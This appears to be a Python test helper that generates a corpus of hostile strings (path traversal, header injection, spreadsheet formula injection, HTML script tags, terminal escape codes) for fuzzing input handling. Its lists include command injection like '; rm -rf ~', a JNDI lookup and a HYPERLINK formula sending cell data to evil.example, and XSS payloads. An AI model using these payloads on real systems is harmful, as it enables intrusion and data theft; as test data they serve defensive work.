"""Hostile strings: what has become a path, a header, a formula, a tag or a control code somewhere before."""

import random
from itertools import product
from typing import Final

FORGED: Final = "FORGED"
"""Stands behind what could begin a line: no line of ours begins so."""

_PATHS: Final = (
    "../../v1/accounts/A1", "x/../../..", "..", ".", "...", "./", "..;/", "a#x", "a?x=1", "a&b=c", "a;b=c",
    "%2e%2e", "%2F..%2F", "..%2f..%2f", "%252e%252e%252f", "..\\..\\", "\\\\evil\\share",
    "//evil.example/x", "@evil.example", "http://evil.example/", "https://user:pw@evil.example/", "a b",
    "a%20b", "a%", "%zz", "%00", "a\x00b", "a/b", "/", "a//b", "\u2024\u2024/", "\uff0e\uff0e\uff0f",
    "\u2215\u2215", "a\u0301", "\xe9", "\u0130", "~root", "a:b", "[::1]", "[bad", "//[bad/x", "*", "a|b",
    "a\tb", "a\nb", "a\r\nb", " lead", "trail ", "", "null", "None", "-1", "1e9", "0x10", "\ufeff2c",
    "${jndi:ldap://evil.example/a}", "{{7*7}}", "{0}", "%s%n", "$(id)", "`id`", "; rm -rf ~", "' OR 1=1 --",
    '"; DROP TABLE event; --', "a'b", 'a"b', "a,b", "a;b", "[a,b]", "]}", '{"a":1}',
)  # fmt: skip
_HEADERS: Final = (
    "a\r\nX-Forged: 1", "a\nX-Forged: 1", "a\rX-Forged: 1", "a\r\n\r\nGET /forged HTTP/1.1", "a\x0bX: 1",
    "a\x85X: 1", "a\u2028X: 1", "a: b", "a; b", "\u010dX-Forged: 1", "\u560d\u560aX: 1",
    "%0d%0aX-Forged:%201", "a\\r\\nX: 1", "na\xefve", "\udc80", "\ud83d", "\U0001f600", "us,emea",
    "us emea", "2c92,2c93", " 2c92", "2c92\t",
    "a" * 65, "a" * 9000,
)  # fmt: skip
_FORMULA_STARTS: Final = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20", '"=', "';=", "x;=",
    "x,=", "x\t=", "x\n=", 'x";=', 'x;"=', "x;+", "x,@",
)  # fmt: skip
_FORMULAS: Final = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"x")', "1+1;y")
_TAGS: Final = (
    "<script>alert(1)</script>", "</td><script>x</script>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", '"><script>', "'><script>", '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='", "</style><script>", "</title><script>", "<!--", "--><script>",
    "<![CDATA[", "<?php", "<iframe src=//evil.example>", "<base href=//evil>",
    "<link rel=stylesheet href=//evil>", "<meta http-equiv=refresh content=0;url=//evil>",
    "<a href=javascript:x>y</a>", "<form action=//evil>", "<object data=//evil>",
    "<style>@import '//evil'</style>", "&lt;script&gt;", "&#60;script&#62;", "<\x00script>", "<script>",
    "<math><mtext></p><script>", "{{ config }}", "{% raw %}", "]]>", "<ScRiPt>",
    "<div style=background:url(//evil)>", "<input autofocus onfocus=x>", "<b>bold</b>", "&amp;&lt;",
    "<\u0131mg src=x>",
)  # fmt: skip
_CONTROLS: Final = (
    "\x1b[2J", "\x1b]0;t\x07", "\x1b]8;;http://evil\x07", "\x1b[31m", "\x1bc", "\x1b[1A\x1b[2K", "\x9b31m",
    "\x9d0;t\x9c", "\r", "\n", "\r\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\x08\x08\x08", "\x7f",
    "\x00", "\x07", "\x0e", "\u202e", "\u202a", "\u2066", "\u200b", "\u200d", "\u200e", "\u2060", "\ufeff",
    "\xad", "\u180e", "\u3164", "\U000e0041", "\ufe0f", "\u061c", "[red]", "[link=http://evil]", "\n\n",
    "\nerror: ",
)  # fmt: skip

STRINGS: Final = tuple(
    dict.fromkeys((
        *_PATHS,
        *_HEADERS,
        *map("".join, product(_FORMULA_STARTS, _FORMULAS)),
        *_TAGS,
        *(f"{before}{FORGED}{after}" for before, after in product(_CONTROLS, ("", "\x1b[0m"))),
    ))
)  # fmt: skip


def strings(more: int = 0, seed: int = 0) -> list[str]:
    """The corpus, and so many strings that join two or three pieces of it by chance."""
    chance = random.Random(seed)  # noqa: S311 - a test, no secret
    made = ("".join(chance.choices(STRINGS, k=chance.randint(2, 3)))[:4000] for _ in range(more))
    return [*STRINGS, *made]


def sendable(text: str) -> str:
    """The text as far as a header line may carry it: any byte but CR, LF and NUL."""
    return text.translate({0: None, 10: None, 13: None}).strip()
